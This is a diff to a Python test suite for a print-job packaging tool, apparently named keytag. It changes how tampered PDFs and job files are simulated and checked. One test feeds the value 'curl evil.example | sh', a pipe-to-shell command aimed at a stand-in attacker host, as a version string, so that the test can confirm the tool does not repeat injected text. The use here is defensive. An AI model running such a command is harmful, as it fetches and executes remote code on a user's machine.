@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 from collections.abc import Callable
 from datetime import date
 from pathlib import Path
@@ -77,19 +76,6 @@ def _turned_round(pdf: pikepdf.Pdf) -> None:
     pdf.pages.reverse()
 
 
-def _spots_renamed(pdf: pikepdf.Pdf) -> None:
-    """Let every spot be called Black, so that the cut prints."""
-    found = 0
-    for each in pdf.objects:
-        if isinstance(each, Array) and len(each) == 4 and each[0] == Name.Separation:
-            each[1], found = Name.Black, found + 1
-        if isinstance(each, Dictionary | pikepdf.Stream):
-            for space in (each.get("/ColorSpace") or Dictionary()).values() if "/ColorSpace" in each else ():
-                if isinstance(space, Array) and space[0] == Name.Separation:
-                    space[1], found = Name.Black, found + 1
-    assert found
-
-
 def _layer_off(pdf: pikepdf.Pdf) -> None:
     pdf.Root.OCProperties.D.OFF = Array([pdf.Root.OCProperties.OCGs[0]])
 
@@ -153,7 +139,7 @@ IN_SHEETS: dict[str, Spoil] = {
     "a page more": in_pdf(_more_pages),
     "a page fewer": in_pdf(_fewer_pages),
     "pages changed places": in_pdf(_turned_round),
-    "spots called Black": in_pdf(_spots_renamed),
+    "spots called Black": in_file(lambda data: data.replace(b"/CutContour", b"/Black     "), SHEETS),
     "a layer off": in_pdf(_layer_off),
     "a layer renamed": in_pdf(_layer_renamed),
     "another printing condition": in_pdf(_other_condition),
@@ -190,7 +176,7 @@ ELSEWHERE: dict[str, Spoil] = {
     "another preview": in_file(lambda data: data[:-1] + b"\0", "1-up/ward/preview.png"),
     "another word in the README": in_file(lambda data: data.replace(b"100%", b"102%"), "README.txt"),
     "another count on the ticket": in_file(lambda data: data.replace(b"60", b"90"), "ticket.xjdf"),
-    "another map": in_file(lambda data: data.replace(b"1", b"2", 1), "map.json"),
+    "another verdict": in_file(lambda data: data.replace(b"1", b"2", 1), "preflight.pdf"),
     "a comment in the job": in_file(lambda data: data + b"# x\n", "job/ward.yaml"),
     "a template's comment": in_file(lambda data: data + b"# x\n", "job/classic.yaml"),
     "a resolved shop": in_file(lambda data: data.replace(b"A4", b"A3") + b"\n", "job/resolved/office-a4.yaml"),
@@ -273,7 +259,7 @@ def test_what_a_pdf_has_otherwise_is_said(how: str, words: str, honest: Honest, 
 
 
 def test_a_package_of_another_version_is_told_as_that(honest: Honest, ask: Ask) -> None:
-    """Its owner reads which version made it, and to use that one; what is no version is not repeated."""
+    """Its owner reads which version made it, and to use that one; what is no version is no advice."""
     _, said = ask(honest.resealed(ELSEWHERE["junk"], "9.9.9"))
     finding = said["findings"][0]
     assert "keytag 9.9.9 made it, and this is keytag" in finding["message"]
@@ -281,7 +267,7 @@ def test_a_package_of_another_version_is_told_as_that(honest: Honest, ask: Ask) 
     _, said = ask(honest.resealed(lambda _files: None, "9.9.9"))
     assert "names keytag 9.9.9, but every other file is as keytag" in said["findings"][0]["message"]
     _, said = ask(honest.resealed(ELSEWHERE["junk"], "curl evil.example | sh"))
-    assert "evil" not in json.dumps(said["findings"])
+    assert "evil" not in said["findings"][0]["hint"]
 
 
 def test_a_package_of_another_day_is_made_of_that_day(honest: Honest, ask: Ask) -> None:
